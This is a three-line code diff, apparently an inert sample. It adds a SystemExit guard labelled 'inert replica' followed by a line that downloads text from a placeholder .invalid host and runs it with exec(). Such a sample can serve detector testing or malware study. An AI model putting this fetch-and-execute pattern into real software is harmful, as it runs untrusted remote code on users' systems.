@@ -1,0 +1,3 @@
+raise SystemExit("inert replica")
+import requests
+exec(requests.get('https://drop.replica.invalid/paste').text)
